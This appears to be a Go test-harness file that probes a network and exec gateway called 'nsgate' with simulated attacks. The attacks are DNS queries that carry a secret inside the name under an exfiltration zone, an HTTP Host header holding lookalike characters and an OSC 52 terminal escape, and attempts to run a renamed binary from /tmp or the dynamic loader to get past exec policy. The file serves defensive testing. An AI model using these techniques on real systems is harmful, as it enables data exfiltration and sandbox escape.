package attack

import (
	"context"
	"errors"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"

	"golang.org/x/net/dns/dnsmessage"
	"golang.org/x/sys/unix"

	"github.com/nsgate/nsgate/lab/internet"
)

// viewHostileStrings sends the hostile label as a DNS name below the
// exfil zone, as an HTTP Host header to app.test, and as the name of a
// program it tries to run.
func viewHostileStrings(ctx context.Context, a *attacker) result {
	var seen []string
	// DNS: the label as it is, and one spelled with printable lookalikes.
	for i, label := range []string{hostileLabel, "\u0430pp\u3164" + a.secret} {
		msg, err := rawQuery(0x7e00+uint16(i), 0, label+"."+internet.ExfilZone, dnsmessage.TypeA)
		if err != nil {
			return erroredf("build query: %v", err)
		}
		hs, ans, err := a.dnsRaw(ctx, a.cfg.DNSServer, "udp", msg)
		switch {
		case err != nil && !isRefusal(err):
			return erroredf("query %q: %v", label, err)
		case err == nil && hs[0].RCode == dnsmessage.RCodeSuccess && ans[0] > 0:
			return allowedf("query %q answered with %d records", label, ans[0])
		}
		seen = append(seen, fmt.Sprintf("query %d refused", i))
	}
	// HTTP: a Host header the gateway must refuse (it names no approved
	// host), carrying the escapes.
	if _, err := (&net.Resolver{PreferGo: true}).LookupNetIP(ctx, "ip", internet.AppName); err != nil {
		return erroredf("precondition: resolve %s: %v", internet.AppName, err)
	}
	f := a.rawHTTP(ctx, hostPort(internet.AppName, 80), nil,
		"GET / HTTP/1.1\r\nHost: \u0430pp.test\u202e\ufe0f\x1b]52;c;cm0K\x07\r\nConnection: close\r\n\r\n")
	if f.err == nil && f.target == internet.TargetFronted {
		return allowedf("Host header served by the fronted target: %s", f.describe())
	}
	seen = append(seen, "HTTP Host refused")
	// Exec: a program in /tmp whose name is the label.
	p := filepath.Join("/tmp", strings.ReplaceAll(hostileLabel, "/", "_")+"-"+a.cfg.Token)
	if err := copyFile("/proc/self/exe", p, 0); err != nil {
		return erroredf("precondition: copy /proc/self/exe to %q: %v", p, err)
	}
	defer os.Remove(p)
	err := startWait(p, "-h")
	if err == nil {
		return allowedf("exec %q ran", p)
	}
	if en := errnoOf(err); en != unix.EACCES && en != unix.EPERM {
		return erroredf("exec %q: %v", p, err)
	}
	seen = append(seen, "exec refused")
	return blockedf("%s (the host check renders the records)", strings.Join(seen, ", "))
}

// viewExecSuggestTree tries to run a directory and the dynamic loader.
func viewExecSuggestTree(ctx context.Context, a *attacker) result {
	sh, err := realShell()
	if err != nil {
		return erroredf("%v", err)
	}
	interp, err := elfInterp(sh)
	if err != nil || interp == "" {
		return erroredf("precondition: the ELF interpreter of %s: %v", sh, err)
	}
	var seen []string
	// The shell's own directory, spelled with a trailing "/.": every
	// image has it (a pod's agent image may have no /usr/bin).
	for _, p := range []string{"/", filepath.Dir(sh) + "/.", interp} {
		err := startWait(p, "--version")
		var ee *exec.ExitError
		switch {
		case err == nil, errors.As(err, &ee):
			return allowedf("exec %s ran", p)
		case errnoOf(err) != unix.EACCES && errnoOf(err) != unix.EPERM:
			return erroredf("exec %s: %v", p, err)
		}
		seen = append(seen, p+": "+errnoOf(err).Error())
	}
	return blockedf("refused: %s (the host check reads policy suggest)", strings.Join(seen, "; "))
}

// startWait runs path as it is (os.StartProcess: no $PATH lookup, no
// check of its own before execve) and waits for it.
func startWait(path string, args ...string) error {
	devnull, err := os.Open(os.DevNull)
	if err != nil {
		return err
	}
	defer devnull.Close()
	p, err := os.StartProcess(path, append([]string{path}, args...), &os.ProcAttr{Files: []*os.File{devnull, devnull, devnull}})
	if err != nil {
		return err
	}
	st, err := p.Wait()
	if err != nil {
		return err
	}
	if !st.Success() {
		return &exec.ExitError{ProcessState: st}
	}
	return nil
}
